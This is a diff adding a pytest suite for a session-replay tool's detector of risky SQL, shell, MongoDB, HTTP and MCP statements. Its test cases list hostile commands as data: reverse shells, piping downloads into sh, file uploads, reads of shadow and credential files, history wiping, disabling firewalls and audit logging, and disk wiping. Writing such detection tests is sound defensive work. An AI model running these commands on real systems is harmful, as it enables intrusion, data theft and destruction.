@@ -1,0 +1,538 @@
+"""Findings: each rule with something it must and something it must not find, recordings, hostile text, users' rules."""
+
+from __future__ import annotations
+
+import time
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from replay_tui.analysis.findings import find
+from replay_tui.analysis.judgement import linked, quoted_words
+from replay_tui.analysis.rules import own_rules, shipped_rules
+from replay_tui.analysis.statements import read_statements
+from replay_tui.decoders import guess_kind
+from replay_tui.domain.errors import UsageError
+from replay_tui.domain.finding import Finding
+from replay_tui.domain.kind import Kind
+from replay_tui.domain.risk import Severity
+from replay_tui.domain.session import Session
+from replay_tui.domain.statement import Statement
+from replay_tui.terminal.scanner import SequenceEvent, scan
+from replay_tui.terminal.size import infer_sizes
+
+from .test_shell import load
+
+SQL = Session.read({"type": "database", "connection_subtype": "postgres"})
+MONGO = Session.read({"type": "database", "connection_subtype": "mongodb"})
+MASKED = Session.read(
+    {"connection_subtype": "postgres", "metrics": {"data_masking": {"info_types": {"EMAIL_ADDRESS": 2}}}}
+)
+
+CASES: list[tuple[str, str, list[str], list[str]]] = [
+    (
+        "sql-drop",
+        "sql",
+        ["drop table t", "DROP SCHEMA a CASCADE", "alter table t drop column c", "/* x */ drop view v"],
+        [
+            "select 'drop table t'",
+            "-- drop table t\nselect 1",
+            'select "drop table" from t',
+            "alter table t alter c drop default",
+            "drop role bob",
+            "insert into log values ('drop table x')",
+        ],
+    ),
+    ("sql-truncate", "sql", ["truncate t", "TRUNCATE TABLE a, b"], ["select truncate(1.5)", "select 'truncate t'"]),
+    (
+        "sql-delete-all",
+        "sql",
+        [
+            "delete from t",
+            "DELETE FROM t WHERE 1=1",
+            "with a as (delete from t returning *) select * from a",
+            "explain analyze delete from t",
+            "delete from t where true",
+        ],
+        [
+            "delete from t where id = 1",
+            "select 'delete from t'",
+            "grant delete on t to b",
+            "delete from t where id in (select 1)",
+            "create trigger x after delete on t execute function f()",
+            "delete from t where 1=1 and id=2",
+        ],
+    ),
+    (
+        "sql-update-all",
+        "sql",
+        ["update t set a = 1", "UPDATE t SET a='where b=1'", "update t set a = (select 1 from b where c=1)"],
+        [
+            "update t set a = 1 where id = 2",
+            "select * from t for update",
+            "insert into t values (1) on conflict (id) do update set a=1",
+            "create table t (a int references b on update cascade)",
+            "grant update on t to b",
+        ],
+    ),
+    (
+        "sql-grant",
+        "sql",
+        [
+            "grant all on t to bob",
+            "revoke select on t from bob",
+            "alter role bob superuser",
+            "alter table t owner to bob",
+        ],
+        ["select 'grant'", "select has_grant from t", "alter table grants add a int"],
+    ),
+    (
+        "sql-user",
+        "sql",
+        ["create user bob", "CREATE ROLE r", "drop user bob"],
+        ["create table users (a int)", "drop table users", "create user mapping for bob server s"],
+    ),
+    (
+        "sql-role-column",
+        "sql",
+        ["update users set role='admin' where id=42", "insert into users (name, is_admin) values ('a', true)"],
+        [
+            "update users set name='role' where id=1",
+            "update users set a=1 where role = 'x'",
+            "select role from users",
+            "insert into users (name) values ('admin')",
+        ],
+    ),
+    (
+        "sql-server-program",
+        "sql",
+        [
+            "copy t to program 'curl x'",
+            "copy t from program 'id'",
+            "select pg_read_file('/etc/passwd')",
+            "exec xp_cmdshell 'dir'",
+        ],
+        ["copy t from stdin", "select 'pg_read_file'", "select program from t"],
+    ),
+    (
+        "sql-copy-out",
+        "sql",
+        ["copy t to stdout", "copy (select * from t) to '/tmp/x'"],
+        ["copy t from stdin", "select 'copy t to stdout'"],
+    ),
+    (
+        "sql-logging-off",
+        "sql",
+        ["set global general_log = 'OFF'", "set log_statement to 'none'", "SET sql_log_bin=0"],
+        ["set log_statement to 'all'", "set statement_timeout = 0", "set row_security = off"],
+    ),
+    (
+        "sensitive-columns",
+        "masked",
+        ["select email from users", "select u.contact_email from u"],
+        ["select 'email'", "select id from users", "update users set email='x' where id=1"],
+    ),
+    (
+        "shell-remove",
+        "shell",
+        [
+            "rm -rf /tmp/x",
+            "rm -r -f x",
+            "rm --recursive --force x",
+            "sudo rm -fr x",
+            "find . -name x -delete",
+            "cd /x && rm -rf .",
+            "bash -c 'rm -rf x'",
+            "echo $(rm -rf x)",
+            "xargs rm -rf",
+            "/bin/rm -rf x",
+        ],
+        [
+            "rm x",
+            "echo 'rm -rf /'",
+            "grep 'rm -rf' log",
+            "rm -f x",
+            "# rm -rf /",
+            "git commit -m 'rm -rf'",
+            "rm x # -rf",
+        ],
+    ),
+    (
+        "shell-disk",
+        "shell",
+        ["mkfs.ext4 /dev/sdb", "dd if=/dev/zero of=/dev/sda", "shred x", "wipefs -a /dev/sdb"],
+        ["dd if=x", "echo mkfs", "fdisk -l", "man mkfs"],
+    ),
+    (
+        "shell-permissions",
+        "shell",
+        ["chmod 777 x", "chmod -R a+w x", "chown -R bob x", "chmod u+s x", "chmod 4755 x"],
+        ["chmod 644 x", "chmod +x x", "chown bob x", "chmod u+x deploy.sh"],
+    ),
+    (
+        "shell-privilege",
+        "shell",
+        ["sudo ls", "su - root", "doas ls", "ls; sudo -n true"],
+        ["sudo -V", "echo sudo", "cat sudo.txt", "su-exec x"],
+    ),
+    (
+        "shell-run-download",
+        "shell",
+        ["curl -s x | sh", "wget -qO- x | sudo bash", "echo aGk= | base64 -d | sh", "bash <(curl x)"],
+        ["curl x | jq .", "echo 'curl x | sh'", "cat x | sh"],
+    ),
+    (
+        "shell-upload",
+        "shell",
+        [
+            "curl -d @f http://x",
+            "curl -T f http://x",
+            "scp f host:/x",
+            "nc host 80",
+            "rsync -a d me@host:/x",
+            "curl -XPOST http://x",
+            "aws s3 cp f s3://b/",
+        ],
+        ["curl http://x", "scp host:/x .", "echo nc", "rsync -a a b", "aws s3 cp s3://b/f ."],
+    ),
+    ("shell-encode", "shell", ["base64 /etc/passwd", "base64 -w0 f", "xxd f"], ["base64 -d f", "echo base64"]),
+    ("shell-dump", "shell", ["pg_dump shop", "mysqldump -u a b"], ["pg_dump --version", "man pg_dump"]),
+    (
+        "shell-history",
+        "shell",
+        [
+            "history -c",
+            "unset HISTFILE",
+            "export HISTFILE=/dev/null",
+            "rm ~/.bash_history",
+            "> ~/.bash_history",
+            "set +o history",
+            "ln -sf /dev/null ~/.zsh_history",
+        ],
+        ["history", "history | grep x", "cat ~/.bash_history", "history > build/history.txt", "export HISTSIZE=5000"],
+    ),
+    (
+        "shell-accounts",
+        "shell",
+        ["useradd bob", "passwd root", "usermod -aG sudo bob", "echo k >> ~/.ssh/authorized_keys", "sudo visudo"],
+        ["cat /etc/passwd", "grep bob /etc/group", "ls -l ~/.ssh/authorized_keys", "passwd -S bob"],
+    ),
+    (
+        "shell-secret-files",
+        "shell",
+        ["cat /etc/shadow", "cp ~/.ssh/id_rsa x", "cat ~/.aws/credentials"],
+        ["cat ~/.ssh/id_rsa.pub", "cat /etc/hosts", "man shadow"],
+    ),
+    (
+        "shell-defences",
+        "shell",
+        ["iptables -F", "ufw disable", "setenforce 0", "systemctl stop auditd", "nft flush ruleset"],
+        ["iptables -L -n", "ufw status", "getenforce", "systemctl status auditd", "iptables -nvL"],
+    ),
+    (
+        "shell-services",
+        "shell",
+        ["systemctl stop nginx", "service nginx stop", "reboot", "docker rm -f x", "shutdown -h now"],
+        ["systemctl status nginx", "service nginx status", "echo reboot", "docker ps", "shutdown -c"],
+    ),
+    ("shell-kill", "shell", ["kill -9 1", "pkill java", "killall -9 x"], ["kill 1", "echo kill -9 1"]),
+    (
+        "shell-persistence",
+        "shell",
+        ["crontab -e", "echo x >> ~/.bashrc", "systemctl enable x", "tee /etc/cron.d/x"],
+        ["crontab -l", "cat ~/.bashrc", "systemctl is-enabled x"],
+    ),
+    (
+        "shell-cluster",
+        "shell",
+        [
+            "kubectl delete pod x",
+            "kubectl -n a delete ns b",
+            "terraform destroy",
+            "git push --force",
+            "aws ec2 terminate-instances --x",
+            "docker system prune -f",
+        ],
+        ["kubectl get pods", "terraform plan", "git push", "aws ec2 describe-instances"],
+    ),
+    (
+        "shell-reverse",
+        "shell",
+        ["bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "nc -e /bin/sh h 1", "socat tcp:h:1 exec:sh"],
+        ["bash -i", "nc -z h 1"],
+    ),
+    ("http-delete", "http", ["DELETE /a"], ["GET /DELETE /a", "POST /delete"]),
+    ("http-write", "http", ["PUT /a", "PATCH /a"], ["GET /a", "POST /PUT"]),
+    (
+        "mongo-drop",
+        "mongo",
+        ['{"drop": "t"}', '{"dropDatabase": 1}', "db.t.drop()"],
+        ['{"find": "drop"}', "db.t.find({a: 'drop'})"],
+    ),
+    (
+        "mongo-delete-all",
+        "mongo",
+        ['{"delete": "t", "deletes": [{"q": {}, "limit": 0}]}', "db.t.deleteMany({})"],
+        [
+            '{"delete": "t", "deletes": [{"q": {"a": 1}, "limit": 0}]}',
+            '{"delete": "t", "deletes": [{"q": {}, "limit": 1}]}',
+            "db.t.deleteMany({a: 1})",
+        ],
+    ),
+    (
+        "mongo-update-all",
+        "mongo",
+        ['{"update": "t", "updates": [{"q": {}, "u": {}, "multi": true}]}', "db.t.updateMany({}, {$set: {a: 1}})"],
+        ['{"update": "t", "updates": [{"q": {"_id": 7}, "u": {}}]}', "db.t.updateMany({a: 1}, {})"],
+    ),
+    (
+        "mongo-users",
+        "mongo",
+        ['{"createUser": "bob"}', '{"grantRolesToUser": "bob"}', "db.createUser({})"],
+        ['{"find": "users"}', '{"usersInfo": 1}'],
+    ),
+    ("mcp-dangerous-tool", "mcp", ["delete_file {}", "run_command {}"], ["read_file {}", 'search {"q": "delete"}']),
+]
+
+
+def statement(where: str, text: str) -> tuple[Session, Statement]:
+    if where in ("sql", "masked"):
+        from replay_tui.decoders.sql import classify
+
+        kind, verb = classify(text)
+        return (MASKED if where == "masked" else SQL), Statement(0.0, kind, text, verb=verb)
+    if where == "mongo":
+        from replay_tui.decoders.mongo import describe, read_command
+
+        command = read_command(text)
+        kind, verb, _ = describe(command) if command else ("script", "", {})
+        return MONGO, Statement(0.0, kind, text, verb=verb)
+    return Session.read({}), Statement(0.0, where, text)
+
+
+def names(where: str, text: str) -> list[str]:
+    session, row = statement(where, text)
+    return [one.rule for one in find(session, [row])]
+
+
+@pytest.mark.parametrize(("rule", "where", "found", "left"), CASES, ids=[case[0] for case in CASES])
+def test_rule(rule: str, where: str, found: list[str], left: list[str]) -> None:
+    for text in found:
+        assert rule in names(where, text), text
+    for text in left:
+        assert rule not in names(where, text), text
+
+
+def test_every_rule_has_a_test() -> None:
+    tested = {case[0] for case in CASES}
+    in_code = {
+        "typed-then-deleted",
+        "pasted-block",
+        "hidden-input",
+        "clipboard-write",
+        "clipboard-read",
+        "title-report",
+        "title-change",
+        "notification",
+        "guardrail-word",
+        "ai-word",
+    }
+    rules = shipped_rules()
+    assert {rule.name for rule in rules} == tested | in_code
+    assert len({rule.name for rule in rules}) == len(rules)
+    assert all(rule.sentence.endswith(".") and (rule.pattern or rule.check) for rule in rules)
+
+
+def test_typing() -> None:
+    rows = [
+        Statement(1.0, "shell", "rm -rf /", deleted=True),
+        Statement(2.0, "shell", "lss", deleted=True),
+        Statement(3.0, "shell", "a\nb", details={"pasted": 3}),
+        Statement(4.0, "shell", "ls", details={"pasted": 12}),
+        Statement(5.0, "input", "(8 hidden characters)", details={"masked": True, "prompt": "Password:"}),
+        Statement(6.0, "shell", "rm x", details={"revised": ("rm -rf x",)}),
+    ]
+    found = [(one.time, one.rule, one.severity) for one in find(Session.read({}), rows)]
+    assert found == [
+        (1.0, "typed-then-deleted", Severity.MEDIUM),
+        (2.0, "typed-then-deleted", Severity.LOW),
+        (3.0, "pasted-block", Severity.LOW),
+        (5.0, "hidden-input", Severity.LOW),
+        (6.0, "typed-then-deleted", Severity.MEDIUM),
+    ]
+
+
+def test_sequences_of_the_stream() -> None:
+    kinds = [
+        ("clipboard-write", "52;c;eA=="),
+        ("clipboard-read", "52;c;?"),
+        ("title", "0;a"),
+        ("title", "0;b"),
+        ("query", "21t"),
+        ("query", "6n"),
+        ("query", ">c"),
+        ("notification", "9;x"),
+        ("hyperlink", "8;;x"),
+        ("prompt-mark", "133;A"),
+    ]
+    events = [SequenceEvent(at, float(at), kind, text) for at, (kind, text) in enumerate(kinds)]
+    found = find(Session.read({}), [], events)
+    assert [one.rule for one in found] == [
+        "clipboard-write",
+        "clipboard-read",
+        "title-change",
+        "title-report",
+        "notification",
+    ]
+    assert "2 times" in found[2].message
+    assert not find(Session.read({}), [], [SequenceEvent(0, 0.0, "query", "18t")])
+
+
+def findings_of(name: str) -> list[Finding]:
+    session, stream = load(name)
+    kind, _ = guess_kind(session, stream)
+    reading = read_statements(session, stream, kind, infer_sizes(stream) if kind is Kind.TERMINAL else None)
+    return find(session, reading.statements, scan(stream) if kind is Kind.TERMINAL else ())
+
+
+RECORDED = [
+    ("sessions/exec-postgres-tsv.json", []),
+    ("sessions/exec-bash-failed.json", []),
+    ("sessions/mongo-connect.json", []),
+    ("sessions/mysql-connect.json", ["sql-role-column", "ai-word"]),
+    ("sessions/httpproxy-connect.json", ["http-delete"]),
+    ("sessions/exec-guardrail-blocked.json", ["sql-drop", "guardrail-word", "ai-word"]),
+    ("sessions/pg-psql.json", ["sensitive-columns", "ai-word", "sql-drop"]),
+    ("sessions/pg-psycopg-extended.json", ["sql-copy-out"]),
+    ("sessions/shell-vim.json", ["ai-word", "typed-then-deleted", "shell-privilege", "shell-remove"]),
+    ("sessions/shell-htop-120x36.json", []),
+    ("postgres/pgbench.json.gz", []),
+    ("postgres/psycopg-pipeline.json.gz", []),
+    ("programs/top-watch.json.gz", []),
+    ("programs/vim.json.gz", []),
+    ("programs/tmux.json.gz", []),
+]
+
+
+@pytest.mark.parametrize(("name", "rules"), RECORDED, ids=[name for name, _ in RECORDED])
+def test_recordings(name: str, rules: list[str]) -> None:
+    found = findings_of(name)
+    assert [one.rule for one in found] == rules
+    assert [one.time for one in found] == sorted(one.time for one in found)
+
+
+def test_flagged_psql() -> None:
+    found = {one.rule: one.severity for one in findings_of("postgres/psql-flagged.json.gz")}
+    assert {"sql-delete-all", "sql-grant", "sql-role-column", "sensitive-columns"} <= set(found)
+    assert found["sql-delete-all"] is Severity.HIGH
+
+
+def test_secrets_are_in_no_finding() -> None:
+    for name in ("shells/bash-edit.json.gz", "shells/dash.json.gz"):
+        assert "hunter2" not in repr(findings_of(name))
+
+
+def test_words_of_the_ai() -> None:
+    rows = [
+        Statement(0.0, "read", "select 1"),
+        Statement(1.0, "dml", "delete from payments"),
+        Statement(2.0, "shell", "vim deploy.sh"),
+    ]
+    assert quoted_words("The `payments` table and 'x y z'") == ["payments", "x y z"]
+    assert linked("Empties the `payments` table.", rows) == [(1, ("payments",))]
+    assert linked("Edits deploy.sh in place.", rows) == [(2, ("deploy.sh",))]
+    assert linked("A harmless report.", rows) == []
+    assert linked("", rows) == []
+
+
+def test_own_rules() -> None:
+    own = own_rules(
+        [
+            {
+                "name": "prod-host",
+                "pattern": r"\bprod-\w+",
+                "severity": "high",
+                "sentence": "Names a production host.",
+                "where": ["shell"],
+            },
+            {"name": "orders", "pattern": "orders"},
+        ]
+    )
+    rows = [Statement(0.0, "shell", "ssh PROD-1"), Statement(1.0, "read", "select 'orders'")]
+    assert [(one.rule, one.severity) for one in find(SQL, rows, (), own)] == [
+        ("prod-host", Severity.HIGH),
+        ("orders", Severity.MEDIUM),
+    ]
+
+
+@pytest.mark.parametrize(
+    "row",
+    [
+        {},
+        {"name": "a"},
+        {"name": "a", "pattern": "("},
+        {"name": "a", "pattern": "(a+)+"},
+        {"name": "a", "pattern": "(a|b*)*c"},
+        {"name": "a", "pattern": r"(a)\1"},
+        {"name": "a", "pattern": "x" * 2000},
+        {"name": "a", "pattern": "b", "severity": "worst"},
+        {"name": "a", "pattern": "b", "where": ["moon"]},
+        {"name": "a", "pattern": "((a+)b){20}"},
+        {"name": "a", "pattern": 5},
+        {"name": "a", "pattern": "(?P<x>a)(?P=x)"},
+        {"name": "a", "pattern": "a", "where": 7},
+    ],
+)
+def test_bad_own_rules_are_refused_with_a_sentence(row: dict[str, Any]) -> None:
+    with pytest.raises(UsageError, match=r"[A-Z].+\.$"):
+        own_rules([row])
+
+
+def test_many_findings_are_capped() -> None:
+    found = find(SQL, [Statement(float(at), "ddl", "drop table t") for at in range(2000)])
+    assert len(found) == 500
+    assert "1500 more" in found[-1].message
+
+
+def test_many_statements_are_judged_in_seconds() -> None:
+    rows = [
+        Statement(at / 10, "dml", f"update t set a = {at} where id = {at};", verb="UPDATE") for at in range(200_000)
+    ]
+    rows += [Statement(at / 10, "read", f"select * from t where id = {at};", verb="SELECT") for at in range(100_000)]
+    began = time.monotonic()
+    assert find(SQL, rows) == []
+    assert time.monotonic() - began < 20
+
+
+@pytest.mark.parametrize(
+    "unit",
+    [
+        "curl ",
+        "a|",
+        "rm -",
+        "sudo -u ",
+        "'",
+        "$(",
+        "chmod ",
+        "delete from ",
+        "update t set ",
+        "base64 x ",
+        "-c ",
+        "bash -c '",
+    ],
+)
+def test_hostile_text_takes_bounded_time(unit: str) -> None:
+    text = unit * (100_000 // len(unit))
+    began = time.monotonic()
+    for where in ("shell", "sql", "mongo", "http", "mcp"):
+        names(where, text)
+    assert time.monotonic() - began < 8
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.text(alphabet="rm -f;|&$()'\"`{}<>\\\n#sudocl/=", max_size=120))
+def test_any_text_is_judged(text: str) -> None:
+    for where in ("shell", "sql", "mongo", "http", "mcp"):
+        names(where, text)
